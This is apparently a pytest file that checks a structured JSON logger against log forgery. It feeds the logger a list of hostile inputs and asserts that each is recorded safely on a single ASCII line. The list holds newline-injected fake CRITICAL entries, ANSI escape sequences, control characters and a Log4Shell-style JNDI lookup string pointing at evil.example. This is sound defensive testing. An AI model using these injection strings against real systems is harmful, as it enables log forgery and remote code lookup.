"""Whatever is logged is one line and one JSON object, which says in its own members what it was given."""

from __future__ import annotations

import io
import json
import logging
from collections.abc import Iterator
from typing import Any

import pytest

from knight_vision.observability import PowertoolsObserver, logger

FORGED = '{"level":"CRITICAL","message":"forged"}'
HOSTILE = (
    f"\n{FORGED}\n",
    f"\r\n{FORGED}",
    f'","level":"CRITICAL","x":"{FORGED}',
    "\x1b[2J\x1b[31mred",
    "\x9b2J\x85\u2028\u2029\x0b\x0c\x1c",
    "\x00",
    "\ud800",
    "%s %n %(x)s {0} ${jndi:ldap://evil.example}",
    "\\",
    "x" * 100_000,
)


@pytest.fixture
def written() -> Iterator[io.BytesIO]:
    """What the logger wrote, in bytes as Lambda's log takes it."""
    handler: Any = logger.registered_handler
    assert isinstance(handler, logging.StreamHandler)
    written = io.BytesIO()
    before = handler.setStream(io.TextIOWrapper(written, "utf-8", write_through=True))
    yield written
    handler.setStream(before)


def the_line(written: io.BytesIO) -> dict[str, Any]:
    """One line of printable ASCII: so it is for whatever reads it, and however that tells lines apart."""
    [line] = written.getvalue().decode().splitlines()
    assert line.isascii()
    assert line.isprintable()
    entry: dict[str, Any] = json.loads(line)
    return entry


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: repr(text[:12]))
def test_a_text_forges_nothing_wherever_it_stands(
    written: io.BytesIO, monkeypatch: pytest.MonkeyPatch, text: str
) -> None:
    # pytest would keep the text for its report, and half a letter cannot travel between its processes.
    monkeypatch.setattr(logging.getLogger(), "handlers", [])
    logger.append_keys(correlation_id=text)
    try:
        error = ValueError(text)
        PowertoolsObserver().went_wrong("unit_failed", error, game_id=text, games=[text], user={"name": text})
    finally:
        logger.remove_keys(["correlation_id"])
    entry = the_line(written)
    assert (entry["level"], entry["message"]) == ("WARNING", "unit_failed")
    assert entry["correlation_id"] == entry["game_id"] == text
    assert entry["games"] == [text]
    assert entry["user"] == {"name": text}
    assert text in entry["exception"]
